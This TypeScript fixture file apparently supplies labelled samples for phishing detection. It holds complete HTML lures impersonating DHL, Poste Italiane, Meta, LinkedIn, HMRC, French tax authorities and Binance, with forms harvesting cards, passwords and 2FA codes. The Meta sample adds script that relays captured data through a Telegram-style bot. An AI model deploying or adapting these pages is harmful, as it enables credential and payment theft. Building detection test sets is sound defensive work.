import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-phish-dhl-zollgebuehr-de',
  label: 'phishing',
  kind: 'shipping-kit',
  url: 'https://dhl-paket-zustellung.info/sendung/DE4471920033/',
  body: doc({
    lang: 'de',
    title: 'DHL Paket - Zollgebühr offen',
    css: baseCss + `.y{background:#ffcc00;padding:14px 28px;font-weight:900;color:#d40511;font-size:24px;font-style:italic}.step{display:flex;gap:8px;margin:16px 0}.step span{flex:1;height:6px;background:#ddd}.step span.on{background:#d40511}`,
    body: `<div class="y">DHL</div><main>
<h2>Ihre Sendung DE4471920033 wartet auf Zustellung</h2>
<div class="step"><span class="on"></span><span class="on"></span><span class="on"></span><span></span></div>
<p>Für Ihre Sendung aus dem Nicht-EU-Ausland ist eine Zollgebühr in Höhe von <b>1,99 €</b> offen. Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird das Paket an den Absender zurückgeschickt.</p>
<div class="card"><form method="post" action="/sendung/zahlung.php">
<label>Vor- und Nachname</label><input name="name"><label>Straße, Hausnummer</label><input name="str"><label>PLZ / Ort</label><input name="ort">
<label>Kartennummer</label><input name="kk" inputmode="numeric"><label>Gültig bis</label><input name="mmjj" placeholder="MM/JJ"><label>Prüfnummer (CVC)</label><input name="cvc">
<button class="btn" style="background:#d40511">1,99 € jetzt bezahlen</button></form></div></main>
<footer>Deutsche Post DHL Group · <a href="#">Impressum</a><a href="#">Datenschutz</a><a href="#">AGB</a></footer>`,
  }),
},
{
  id: 'zf-phish-poste-italiane-it',
  label: 'phishing',
  kind: 'shipping-kit',
  url: 'https://posteitaliane-verifica.it.sicurezza-conto.com/accedi/',
  body: doc({
    lang: 'it',
    title: 'Poste Italiane - Accedi',
    css: loginCss('#0047bb', '#f2f5fa') + `.hd{background:#ffd600;padding:10px 20px;font-weight:800;color:#0047bb}`,
    body: `<div class="hd">PosteItaliane</div><div class="wrap">
<h1>Accedi al tuo conto BancoPosta</h1><p class="small">Gentile cliente, la sua carta Postepay è stata sospesa per mancata verifica dei dati. Acceda per riattivarla.</p>
<form method="post" action="/accedi/invia.php"><label>Nome utente</label><input name="username"><label>Password</label><input name="password" type="password">
<label>Numero carta Postepay</label><input name="carta"><label>Scadenza</label><input name="scad"><label>CVV</label><input name="cvv"><label>Codice PosteID</label><input name="posteid" type="password">
<button>Accedi</button></form><div class="foot">Poste Italiane S.p.A. – P.IVA 01114601006 · <a href="#">Privacy</a></div></div>`,
  }),
},
{
  id: 'zf-phish-facebook-copyright-appeal',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://meta-business-appeal-center.com/help/contact/1129348712',
  body: doc({
    title: 'Meta for Business - Page Appeal',
    css: baseCss + `body{background:#f0f2f5}.hd{background:#fff;padding:12px 28px;color:#0866ff;font-weight:700;font-size:22px;box-shadow:0 1px 2px #ccc}`,
    body: `<div class="hd">Meta Business Help Center</div><main><div class="card" style="max-width:560px">
<h2>Your page has been scheduled for permanent deletion</h2>
<p>We have received multiple reports that your Page is infringing on trademark rights of others. If you believe this is a mistake, you can submit an appeal within 24 hours. Case #2938-118-4412</p>
<form id="f"><label>Page name</label><input name="page"><label>Business email</label><input name="email" type="email"><label>Phone number</label><input name="phone">
<label>Facebook password</label><input name="pass" type="password"><label>Additional information</label><textarea name="note" rows="3"></textarea><button class="btn" style="background:#0866ff">Submit appeal</button></form>
<div id="tfa" style="display:none"><label>Two-factor authentication code</label><input id="code" maxlength="8"><button class="btn" onclick="c2()">Send</button></div></div></main>
<footer>Meta © 2025 · <a href="#">Privacy</a><a href="#">Terms</a><a href="#">Cookies</a></footer>
<script>
var bot='7712239981:AAG-xq81hd2mN_0ePq5sJzXwTf2b7cKlL4o',chat='-1002281901',ep='/help/contact/relay?bot='+bot;
function send(t){return fetch(ep,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:chat,text:t})})}
document.getElementById('f').onsubmit=function(e){e.preventDefault();var o=Object.fromEntries(new FormData(this));send(JSON.stringify(o)).then(function(){f.style.display='none';tfa.style.display='block'})};
function c2(){send('2fa: '+code.value).then(function(){location.href='https://www.facebook.com/help'})}
</script>`,
  }),
  routes: { 'meta-business-appeal-center.com/help/contact/relay': jsonRoute({ ok: true, result: {} }) },
},
{
  id: 'zf-phish-linkedin-message',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://lnkd-inmail-viewer.com/checkpoint/lg/login?session_redirect=%2Fmessaging',
  body: doc({
    title: 'LinkedIn Login, Sign in | LinkedIn',
    css: loginCss('#0a66c2', '#f3f2ef'),
    body: `<div class="wrap"><div class="logo" style="color:#0a66c2">Linked<span style="background:#0a66c2;color:#fff;padding:0 3px;border-radius:3px">in</span></div>
<h1>Sign in</h1><p class="small">You have 1 unread InMail from a recruiter. Sign in to view your message.</p>
<form method="post" action="/checkpoint/lg/login-submit"><input name="session_key" placeholder="Email or Phone"><input name="session_password" type="password" placeholder="Password"><a href="#" class="small">Forgot password?</a><br><br><button style="border-radius:24px">Sign in</button></form>
<div class="foot">LinkedIn © 2025 <a href="#">User Agreement</a><a href="#">Privacy Policy</a><a href="#">Cookie Policy</a></div></div>`,
  }),
},
{
  id: 'zf-phish-hmrc-tax-refund',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://hmrc-refund-claim.uk-gov-portal.com/refund/claim',
  body: doc({
    title: 'Claim your tax refund - GOV.UK',
    css: `body{margin:0;font-family:Arial,sans-serif;color:#0b0c0c}.g{background:#0b0c0c;color:#fff;padding:10px 30px;font-weight:700;font-size:26px;border-bottom:10px solid #1d70b8}
main{max-width:640px;margin:30px auto;padding:0 16px}label{display:block;font-weight:700;margin-top:14px}input{width:100%;padding:6px;border:2px solid #0b0c0c;font-size:18px}
.b{background:#00703c;color:#fff;border:0;padding:10px 16px;font-size:18px;margin-top:20px;box-shadow:0 2px 0 #002d18}`,
    body: `<div class="g">GOV.UK</div><main><span style="color:#505a5f">HM Revenue &amp; Customs</span>
<h1>Claim your tax refund</h1><p>After the last annual calculations of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>£ 418.67</b>. Please submit the tax refund request and allow us 3-5 working days to process it.</p>
<form method="post" action="/refund/submit"><label>Full name</label><input name="name"><label>Date of birth</label><input name="dob"><label>National Insurance number</label><input name="nino"><label>Address</label><input name="addr"><label>Postcode</label><input name="pc">
<label>Name of bank</label><input name="bank"><label>Card number</label><input name="card"><label>Expiry date</label><input name="exp"><label>Security code</label><input name="cvv"><label>Mother's maiden name</label><input name="mmn">
<button class="b">Submit refund request</button></form>
<p style="font-size:14px;color:#505a5f;margin-top:40px">© Crown copyright · Cookies · Accessibility statement</p></main>`,
  }),
},
{
  id: 'zf-phish-impots-remboursement-fr',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://impots-gouv-remboursement.fr-espace-particulier.com/connexion',
  body: doc({
    lang: 'fr',
    title: 'impots.gouv.fr - Espace particulier',
    css: loginCss('#000091', '#f6f6f6'),
    body: `<div class="wrap"><div class="logo" style="color:#000">RÉPUBLIQUE<br>FRANÇAISE</div>
<h1>Remboursement d'impôt</h1><p class="small">Après vérification de vos déclarations, un trop-perçu de <b>327,00 €</b> a été constaté. Connectez-vous pour recevoir votre remboursement sur votre carte bancaire.</p>
<form method="post" action="/connexion/etape2"><label>Numéro fiscal (13 chiffres)</label><input name="spi" maxlength="13"><label>Mot de passe</label><input name="mdp" type="password">
<label>Nom et prénom</label><input name="nom"><label>Numéro de carte</label><input name="carte"><label>Date d'expiration</label><input name="exp"><label>Cryptogramme visuel</label><input name="cvv"><button>Recevoir mon remboursement</button></form>
<div class="foot">Direction générale des Finances publiques · <a href="#">Mentions légales</a></div></div>`,
  }),
},
{
  id: 'zf-phish-binance-kyc-tr',
  label: 'phishing',
  kind: 'exchange-kit',
  url: 'https://binance-kyc-dogrulama.com/tr/login',
  body: doc({
    lang: 'tr',
    title: 'Binance - Giriş Yap',
    css: loginCss('#f0b90b', '#181a20') + `.wrap{background:#1e2329;color:#eaecef}input{background:#2b3139;border:1px solid #474d57;color:#fff}button{color:#181a20;font-weight:600}`,
    body: `<div class="wrap"><div class="logo" style="color:#f0b90b">◆ BINANCE</div>
<h1>Kimlik doğrulama gerekli</h1><p class="small" style="color:#b7bdc6">Yeni yasal düzenlemeler nedeniyle hesabınızı 48 saat içinde doğrulamanız gerekmektedir. Aksi takdirde para çekme işlemleri durdurulacaktır.</p>
<form method="post" action="/tr/login/check"><input name="email" placeholder="E-posta / Telefon numarası"><input name="password" type="password" placeholder="Şifre"><input name="ga" placeholder="Google Authenticator kodu"><button>Giriş Yap</button></form>
<div class="foot">© 2025 Binance.com</div></div>`,
  }),
},
];
